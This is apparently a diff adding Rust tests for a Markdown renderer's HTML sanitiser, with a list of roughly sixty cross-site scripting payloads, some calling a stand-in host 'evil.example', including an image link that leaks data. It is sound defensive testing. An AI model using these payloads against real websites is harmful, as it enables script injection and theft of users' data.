@@ -1,0 +1,178 @@
+use super::*;
+
+fn html_of(text: &str) -> String {
+    render(text).into_string()
+}
+
+/// The tags of a document, each with its attributes; fails on anything that is not plain HTML.
+fn tags(html: &str) -> Vec<String> {
+    html.split('<')
+        .skip(1)
+        .map(|piece| piece.split_once('>').expect("a tag ends").0.to_owned())
+        .collect()
+}
+
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "text <img src=https://evil.example/x.png> text",
+    "<svg onload=alert(1)><image href=https://evil.example/></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<object data=https://evil.example/></object>",
+    "<style>body{background:url(https://evil.example/x)}</style>",
+    "<div style=\"background:url(https://evil.example/x)\">x</div>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/><button>go</button></form>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<!-- <img src=https://evil.example/x> -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?php <img src=x onerror=alert(1)> ?>",
+    "<!DOCTYPE html><img src=x>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A&#x61;vascript&colon;alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://x/1)",
+    "[x](//evil.example/x)",
+    "[x](/logout)",
+    "[x](https://evil.example/\" onmouseover=\"alert(1))",
+    "[x](https://evil.example/ \"t\" onmouseover=\"alert(1)\")",
+    "[x](https://evil.example 'title\"><img src=x onerror=alert(1)>')",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "![a](https://evil.example/leak?data=secret)",
+    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![a][r]\n\n[r]: https://evil.example/leak.png \"t\"",
+    "![r]\n\n[r]: https://evil.example/leak.png",
+    "[![a](https://evil.example/a.png)](https://evil.example/b)",
+    "![a [b](https://evil.example/b) ![c](https://evil.example/c)](https://evil.example/d)",
+    "[a [b](javascript:1) c](javascript:2)",
+    "<javascript:alert(1)>",
+    "<https://evil.example/\"onmouseover=alert(1)>",
+    "https://evil.example/\"><img src=x onerror=alert(1)>",
+    "https://evil.example/'onmouseover='alert(1)",
+    "`<img src=x onerror=alert(1)>`",
+    "```html\n<img src=x onerror=alert(1)>\n```",
+    "```\"><img src=x onerror=alert(1)>\nx\n```",
+    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
+    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "[x](https://evil.example/\u{202e}gpj.exe)",
+    "\u{0}<img src=x onerror=alert(1)>",
+];
+
+#[test]
+fn attacks_become_text() {
+    let allowed = [
+        "p",
+        "br",
+        "pre",
+        "code",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "ul",
+        "ol",
+        "li",
+        "blockquote",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "em",
+        "strong",
+        "del",
+        "hr",
+        "a",
+    ];
+    for attack in ATTACKS {
+        let html = html_of(attack);
+        for tag in tags(&html) {
+            let name = tag.trim_start_matches('/').trim_end_matches('/').trim();
+            let (name, attributes) = name.split_once(' ').unwrap_or((name, ""));
+            assert!(allowed.contains(&name), "{attack:?} made <{tag}>");
+            if attributes.is_empty() {
+                continue;
+            }
+            assert_eq!(name, "a", "{attack:?} made <{tag}>");
+            let rest = attributes.strip_prefix("href=\"").expect("an href");
+            let (href, rest) = rest.split_once('"').expect("a quoted href");
+            assert_eq!(
+                rest, " target=\"_blank\" rel=\"noopener noreferrer nofollow\"",
+                "{attack:?}"
+            );
+            let fine = ["https://", "http://", "mailto:"].iter().any(|s| href.starts_with(s));
+            assert!(fine, "{attack:?} links to {href}");
+        }
+    }
+}
+
+#[test]
+fn an_image_is_a_link_with_its_words() {
+    let html = html_of("![a cat](https://example.com/cat.png)");
+    assert!(!html.contains("<img"), "{html}");
+    assert!(html.contains("href=\"https://example.com/cat.png\""), "{html}");
+    assert!(html.contains("a cat</a>"), "{html}");
+}
+
+#[test]
+fn ordinary_markdown_looks_as_expected() {
+    let html = html_of(
+        "# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n",
+    );
+    for part in [
+        "<h1>Title</h1>",
+        "<strong>bold</strong>",
+        "<code>code</code>",
+        "<li>one</li>",
+        "<td>1</td>",
+    ] {
+        assert!(html.contains(part), "{part} in {html}");
+    }
+    assert!(!html.contains("style"), "{html}");
+    assert_eq!(
+        html_of("```rust\nlet x = 1 < 2;\n```"),
+        "<pre><code>let x = 1 &lt; 2;\n</code></pre>\n"
+    );
+}
+
+#[test]
+fn addresses_in_text_become_links_without_the_full_stop() {
+    let html = html_of("See https://example.com/a?b=1&c=2. Or (http://example.org)!");
+    assert!(html.contains("href=\"https://example.com/a?b=1&amp;c=2\""), "{html}");
+    assert!(html.contains("href=\"http://example.org\""), "{html}");
+    let code = html_of("`https://example.com`\n\n    https://example.com");
+    assert!(!code.contains("<a "), "{code}");
+}
+
+#[test]
+fn deep_or_long_text_stays_bounded() {
+    let deep = html_of(&format!("{} x", ">".repeat(50_000)));
+    assert!(deep.matches("<blockquote>").count() <= MAX_DEPTH, "{}", deep.len());
+    assert_eq!(deep.matches("<blockquote>").count(), deep.matches("</blockquote>").count());
+    let lists = html_of(&(0..200).map(|n| format!("{}- x\n", "  ".repeat(n))).collect::<String>());
+    assert_eq!(lists.matches("<ul>").count(), lists.matches("</ul>").count());
+    let long = html_of(&"<b>".repeat(MAX_BYTES));
+    assert!(long.starts_with("<pre") && !long.contains("<b>"));
+    let brackets = html_of(&"[".repeat(100_000));
+    assert!(brackets.len() < 1_000_000);
+}
